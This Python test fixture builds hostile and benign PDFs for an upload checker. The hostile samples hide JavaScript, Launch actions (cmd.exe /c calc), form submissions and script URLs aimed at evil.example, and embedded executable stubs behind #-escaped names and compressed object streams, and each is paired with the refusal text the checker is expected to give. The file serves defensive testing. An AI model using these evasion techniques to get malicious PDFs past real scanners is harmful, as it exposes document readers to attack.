"""PDFs built byte by byte for the upload check: hostile ones written the ways the format allows (names
with #-escapes, objects inside compressed object streams with a cross-reference stream, actions in
annotations and page events), and ordinary ones (a scan, links, "open at page 1")."""

from __future__ import annotations

import io
import random
import struct
import zlib

from PIL import Image
from pypdf import PdfWriter
from pypdf.actions import JavaScript

CATALOG = b"<< /Type /Catalog /Pages 2 0 R%s >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842]%s >>"


def _object(number: int, body: bytes) -> bytes:
    return b"%d 0 obj\n" % number + body + b"\nendobj\n"


def classic(objects: dict[int, bytes], trailer: bytes = b"") -> bytes:
    """A PDF 1.7 file with a classic cross-reference table; object 1 is the catalog."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets: dict[int, int] = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += _object(number, objects[number])
    size = max(objects) + 1
    xref_at = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        out += b"%010d 00000 n \n" % offsets[number] if number in offsets else b"0000000000 65535 f \n"
    out += b"trailer\n<< /Size %d /Root 1 0 R%s >>\nstartxref\n%d\n%%%%EOF\n" % (size, trailer, xref_at)
    return bytes(out)


def aes_256_encrypted() -> bytes:
    """A file under the AES-256 security handler (PDF 2.0, revision 6); the keys are random, as a
    password-protected file's look to anyone without the password."""
    rng = random.Random(6)
    hexed = {length: rng.randbytes(length).hex().encode() for length in (48, 32, 16)}
    encrypt = (
        b" /ID [<%s> <%s>] /Encrypt << /Filter /Standard /V 5 /R 6 /Length 256 /P -3904"
        b" /O <%s> /U <%s> /OE <%s> /UE <%s> /Perms <%s>"
        b" /CF << /StdCF << /CFM /AESV3 /AuthEvent /DocOpen /Length 32 >> >> /StmF /StdCF /StrF /StdCF >>"
        % (hexed[16], hexed[16], hexed[48], hexed[48], hexed[32], hexed[32], hexed[16])
    )
    return classic({1: CATALOG % b"", 2: PAGES, 3: PAGE % b""}, trailer=encrypt)


def with_object_stream(plain: dict[int, bytes], packed: dict[int, bytes]) -> bytes:
    """A PDF 1.5+ file whose `packed` objects sit in a Flate-compressed object stream, listed by a
    compressed cross-reference stream: none of their bytes appear in the file as written."""
    pairs, body = [], b""
    for number in sorted(packed):
        pairs.append((number, len(body)))
        body += packed[number] + b"\n"
    head = b" ".join(b"%d %d" % pair for pair in pairs) + b"\n"
    data = zlib.compress(head + body)
    stream_number = max(plain | packed) + 1
    objects = {
        **plain,
        stream_number: b"<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
        % (len(pairs), len(head), len(data))
        + data
        + b"\nendstream",
    }
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets: dict[int, int] = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += _object(number, objects[number])
    xref_number = stream_number + 1
    size = xref_number + 1
    xref_at = len(out)
    offsets[xref_number] = xref_at
    index_in_stream = {number: i for i, (number, _offset) in enumerate(pairs)}
    rows = b""
    for number in range(size):
        if number in offsets:
            rows += struct.pack(">BIH", 1, offsets[number], 0)
        elif number in index_in_stream:
            rows += struct.pack(">BIH", 2, stream_number, index_in_stream[number])
        else:
            rows += struct.pack(">BIH", 0, 0, 65535)
    xref = zlib.compress(rows)
    out += (
        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Filter /FlateDecode /Length %d >>\n"
        % (xref_number, size, len(xref))
        + b"stream\n"
        + xref
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_at
    )
    return bytes(out)


def _written(writer: PdfWriter) -> bytes:
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _pypdf_with_script() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.add_open_action(JavaScript("app.alert('hello');"))
    return _written(writer)


def _pypdf_with_attachment() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.add_attachment("invoice.exe", b"MZ\x90\x00" + b"\x00" * 60)
    return _written(writer)


def _script_behind_an_empty_password() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.add_open_action(JavaScript("app.alert('hello');"))
    writer.encrypt(user_password="", owner_password="owner", algorithm="RC4-128")
    return _written(writer)


JS_ACTION = b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"

# name -> (file, words the refusal must contain)
HOSTILE: dict[str, tuple[bytes, str]] = {
    "script named with #-escapes in the open action": (
        classic({1: CATALOG % b" /OpenAction 4 0 R", 2: PAGES, 3: PAGE % b"", 4: JS_ACTION}),
        "contains scripts",
    ),
    "script inside a compressed object stream": (
        with_object_stream(
            {1: CATALOG % b" /OpenAction 4 0 R", 2: PAGES, 3: PAGE % b""},
            {4: b"<< /S /JavaScript /JS (app.launchURL\\('https://evil.example'\\)) >>"},
        ),
        "contains scripts",
    ),
    "script in a link annotation, inside an object stream": (
        with_object_stream(
            {1: CATALOG % b"", 2: PAGES, 3: PAGE % b" /Annots [5 0 R]"},
            {5: b"<< /Type /Annot /Subtype /Link /Rect [0 0 200 50] /A " + JS_ACTION + b" >>"},
        ),
        "contains scripts",
    ),
    "script in the document's name tree (made by pypdf)": (_pypdf_with_script(), "contains scripts"),
    "script behind an empty user password": (_script_behind_an_empty_password(), "contains scripts"),
    "launch action named with #-escapes": (
        classic(
            {
                1: CATALOG % b" /OpenAction 4 0 R",
                2: PAGES,
                3: PAGE % b"",
                4: b"<< /S /L#61unch /F (calc.exe) >>",
            }
        ),
        "actions that start programs",
    ),
    "launch action inside an object stream": (
        with_object_stream(
            {1: CATALOG % b" /OpenAction 4 0 R", 2: PAGES, 3: PAGE % b""},
            {4: b"<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>"},
        ),
        "actions that start programs",
    ),
    "page event action (/AA) submitting a form": (
        classic(
            {
                1: CATALOG % b"",
                2: PAGES,
                3: PAGE % b" /AA << /O 4 0 R >>",
                4: b"<< /S /SubmitForm /F (https://evil.example) >>",
            }
        ),
        "actions that start programs",
    ),
    "embedded file named with #-escapes": (
        classic(
            {
                1: CATALOG % b" /Names << /Embedded#46iles 4 0 R >>",
                2: PAGES,
                3: PAGE % b"",
                4: b"<< /Names [(a.exe) 5 0 R] >>",
                5: b"<< /Type /Filespec /F (a.exe) /#45F << /F 6 0 R >> >>",
                6: b"<< /Type /Embedded#46ile /Length 4 >>\nstream\nMZ\x90\x00\nendstream",
            }
        ),
        "carries other files",
    ),
    "embedded file inside an object stream": (
        with_object_stream(
            {1: CATALOG % b" /Names 4 0 R", 2: PAGES, 3: PAGE % b""},
            {
                4: b"<< /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >>",
                5: b"<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>",
            },
        ),
        "carries other files",
    ),
    "file attachment (made by pypdf)": (_pypdf_with_attachment(), "carries other files"),
    "XFA form": (
        classic(
            {
                1: CATALOG % b" /AcroForm << /Fields [] /XFA 4 0 R >>",
                2: PAGES,
                3: PAGE % b"",
                4: b"<< /Length 0 >>\nstream\n\nendstream",
            }
        ),
        "interactive (XFA) form",
    ),
    "rich media annotation": (
        with_object_stream(
            {1: CATALOG % b"", 2: PAGES, 3: PAGE % b" /Annots [4 0 R]"},
            {4: b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] >>"},
        ),
        "interactive media",
    ),
}


def scanned_pages(pages: int = 2, seed: int = 15) -> bytes:
    """What a scanner makes: each page one image (here noise, so every byte value occurs in the streams)."""
    rng = random.Random(seed)
    images = [Image.frombytes("L", (620, 877), rng.randbytes(620 * 877)) for _ in range(pages)]
    buffer = io.BytesIO()
    images[0].save(buffer, format="PDF", save_all=True, append_images=images[1:], resolution=75)
    return buffer.getvalue()


def link_and_open_at_first_page() -> bytes:
    """A word processor's export: a web link, and "open at page 1, fit to the window"."""
    return classic(
        {
            1: CATALOG % b" /OpenAction [3 0 R /Fit]",
            2: PAGES,
            3: PAGE % b" /Annots [4 0 R]",
            4: b"<< /Type /Annot /Subtype /Link /Rect [0 0 200 50] /A << /S /URI /URI (https://www.mom.gov.sg/) >> >>",
        }
    )
